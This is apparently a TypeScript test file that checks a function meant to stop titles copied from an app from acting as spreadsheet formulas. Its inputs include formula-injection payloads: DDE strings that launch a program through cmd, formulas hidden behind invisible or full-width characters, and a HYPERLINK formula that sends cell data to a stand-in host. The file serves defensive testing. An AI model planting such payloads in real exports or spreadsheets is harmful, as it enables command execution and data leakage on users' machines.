import assert from 'node:assert/strict';
import { test } from 'node:test';
import * as fc from 'fast-check';
import { copiedTitle } from '../../../../src/core/text/copiedTitle.ts';
import { fuzz } from '../../fuzz.ts';

/**
 * What a spreadsheet takes for a formula when it is pasted: it may unwrap quotes, skip what is not seen, and read signs of
 * another width as those that it knows.
 */
const isFormula = (text: string): boolean =>
	/^[=+@-]/.test(text.replace(/^[\s"\p{Default_Ignorable_Code_Point}\p{Cc}]+/u, '').normalize('NFKC'));

for (const title of [
	'=HYPERLINK("https://evil.test/?"&A1,"Open")',
	"=cmd|'/C calc'!A0",
	'\t=1+1',
	"+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	'@SUM(1+1)*cmd',
	'first\n=1+1',
	'"=1+1"',
	'"\n=1+1"',
	'" "" =1+1',
	'＝1+1',
	'＋1+1',
	'－2+3',
	'＠SUM(1+1)',
	'﹦1+1',
	'﹢1',
	'﹣1',
	'﹫SUM(1)',
	'\u200B=1+1',
	'\uFEFF=1+1',
	'\u{E0041}\u2060＝1+1',
	'\u00AD"\u200D=1+1"',
	'\0=1+1',
	'\u0085+1',
	'@scope(1)',
	'-[1]+1',
	'-[evil.xlsx]Sheet1!A1',
	'@A1',
	'@a/HYPERLINK("https://evil.test")',
	"@a/cmd|' /C calc'!A0",
]) {
	test(`${JSON.stringify(title)} is copied as text: as it is, it would be a formula`, () => {
		assert.ok(title.split('\n').some(isFormula));
		const copied = copiedTitle(title);
		assert.ok(!copied.split(/[\r\n\t]/).some(isFormula), copied);
		assert.ok(copied.endsWith(title.replace(/[\s\p{Cc}]+/gu, ' ').trim()));
	});
}

test('other titles are copied as they are, in one line', () => {
	for (const title of [
		"KeyError: 'inlet'",
		'"inlet" is no sensor',
		'-[NSArray objectAtIndex:]: out of bounds',
		'+[NSArray arrayWithObject:]: nil',
		'@scope/name: no',
		'a = 1 + 1',
		'👩\u200D💻 = 1',
		'',
	]) {
		assert.equal(copiedTitle(title), title);
	}
	assert.equal(copiedTitle('two\r\nlines\0'), 'two lines');
});

test('no title is a formula once it is copied, but for names of Objective-C and of packages', () => {
	fuzz(
		fc.property(
			fc.string({
				unit: fc.constantFrom(
					'=',
					'＝',
					'+',
					'-',
					'﹣',
					'@',
					'"',
					' ',
					'\n',
					'\0',
					'\u200B',
					'[',
					']',
					'(',
					'/',
					'a',
					'1',
				),
			}),
			(title) => {
				const copied = copiedTitle(title);
				assert.doesNotMatch(copied, /[\r\n\t\0]/);
				if (isFormula(copied)) {
					assert.match(copied, /^[\s"\u200B]*(?:[-+﹣]\[\w+ \w+\]|@\w[^(]*$)/);
				}
			},
		),
	);
});
